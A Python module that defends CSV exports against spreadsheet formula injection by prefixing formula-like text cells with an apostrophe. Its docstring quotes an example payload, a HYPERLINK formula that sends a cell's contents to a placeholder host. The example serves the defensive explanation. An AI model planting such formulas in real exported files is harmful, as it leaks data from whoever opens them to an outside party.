"""Text a spreadsheet would run as a formula is neutralised before it leaves in a CSV file.

A caller name like `=HYPERLINK("http://x/?"&A1,"click")` is live when Excel or LibreOffice
opens a CSV file: cells beginning with `=`, `+`, `-`, `@`, a tab or a carriage return are read
as formulas (OWASP "CSV injection"). Such a text gets a leading apostrophe, which spreadsheets
show as text. A plain signed number (`+60312345678`, `-5`) is left alone: a spreadsheet reads it
as a number, never as a formula. Excel files need no change: their cells are typed, and every
writer here types text as a string (`xlsx_stream`, `report_xlsx`).
"""

from __future__ import annotations

import pyarrow as pa
import pyarrow.compute as pc

FORMULA_START = r"^[=+\-@\t\r]"
PLAIN_NUMBER = r"^[+-]?[0-9]+(\.[0-9]+)?$"


def neutralise_formulas(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """A text column with every formula-like value prefixed by `'`; nulls stay null."""
    risky = pc.and_kleene(pc.match_substring_regex(column, FORMULA_START),
                          pc.invert(pc.match_substring_regex(column, PLAIN_NUMBER)))
    if not pc.any(risky).as_py():
        return column
    quoted = pc.binary_join_element_wise(pa.scalar("'", column.type), column,
                                         pa.scalar("", column.type))
    return pc.if_else(risky, quoted, column)


def neutralise_table(table: pa.Table) -> pa.Table:
    """Every text column of `table` through `neutralise_formulas`."""
    for index, field in enumerate(table.schema):
        if pa.types.is_string(field.type) or pa.types.is_large_string(field.type):
            table = table.set_column(index, field, neutralise_formulas(table.column(index)))
    return table
